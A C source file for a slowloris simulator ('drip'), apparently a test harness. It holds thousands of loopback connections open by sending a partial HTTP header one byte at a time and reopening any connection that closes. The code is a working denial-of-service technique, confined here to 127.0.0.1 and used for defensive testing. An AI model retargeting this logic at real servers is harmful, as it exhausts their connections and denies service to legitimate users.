// Simulates attackers that send a request header indefinitely, a byte at a time (slowloris):
//   drip PORT CONNECTIONS PERIOD_MS
// Connections come from 127.1.0.1 and up, 500 from each address. A closed connection is opened again.
// Prints "OPEN RECONNECTS" every second; exits at the end of standard input.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { per_address = 500, slices = 100 };

static uint16_t port;
static unsigned long reconnects;

static int open_one(size_t index) {
    const int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    const uint32_t source = 0x7f010001u + (uint32_t)(index / per_address);
    struct sockaddr_in from = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(source)};
    const struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port),
                                   .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    const int late = 1; // the port is chosen at connect(), where it need only differ per peer
    if (fd < 0 || setsockopt(fd, IPPROTO_IP, 24 /* IP_BIND_ADDRESS_NO_PORT */, &late, sizeof late) ||
        bind(fd, (struct sockaddr*)&from, sizeof from) != 0 ||
        (connect(fd, (const struct sockaddr*)&to, sizeof to) != 0 && errno != EINPROGRESS)) {
        if (fd >= 0)
            close(fd);
        return -1;
    }
    return fd;
}

// Sends one more byte; a connection with a response or a close starts again.
static void drip(int* fd, size_t index, int* is_started) {
    static const char head[] = "GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ";
    char answer[512];
    const char* bytes = *is_started ? "x" : head;
    const size_t count = *is_started ? 1 : sizeof head - 1;
    const int is_alive = *fd >= 0 && (recv(*fd, answer, sizeof answer, MSG_DONTWAIT) < 0 &&
                                      (errno == EAGAIN || errno == ENOTCONN));
    if (is_alive && send(*fd, bytes, count, MSG_NOSIGNAL) > 0) {
        *is_started = 1;
        return;
    }
    if (is_alive && errno == EAGAIN)
        return; // still connecting
    if (*fd >= 0) {
        close(*fd);
        ++reconnects;
    }
    *fd = open_one(index);
    *is_started = 0;
}

int main(int argc, char** argv) {
    if (argc != 4) {
        fputs("usage: drip PORT CONNECTIONS PERIOD_MS\n", stderr);
        return 2;
    }
    port = (uint16_t)atoi(argv[1]);
    const size_t count = (size_t)atol(argv[2]);
    const long period = atol(argv[3]);
    int* const fds = malloc(count * sizeof *fds);
    int* const started = calloc(count, sizeof *started);
    if (fds == NULL || started == NULL)
        return 1;
    memset(fds, -1, count * sizeof *fds);
    time_t told = 0;
    for (size_t slice = 0;; slice = (slice + 1) % slices) {
        for (size_t i = slice; i < count; i += slices)
            drip(&fds[i], i, &started[i]);
        const time_t now = time(NULL);
        if (now != told) {
            size_t open = 0;
            for (size_t i = 0; i < count; ++i)
                open += fds[i] >= 0 && started[i];
            printf("%zu %lu\n", open, reconnects);
            fflush(stdout);
            told = now;
        }
        struct pollfd input = {.fd = STDIN_FILENO, .events = POLLIN};
        if (poll(&input, 1, (int)(period / slices)) > 0)
            return 0;
    }
}
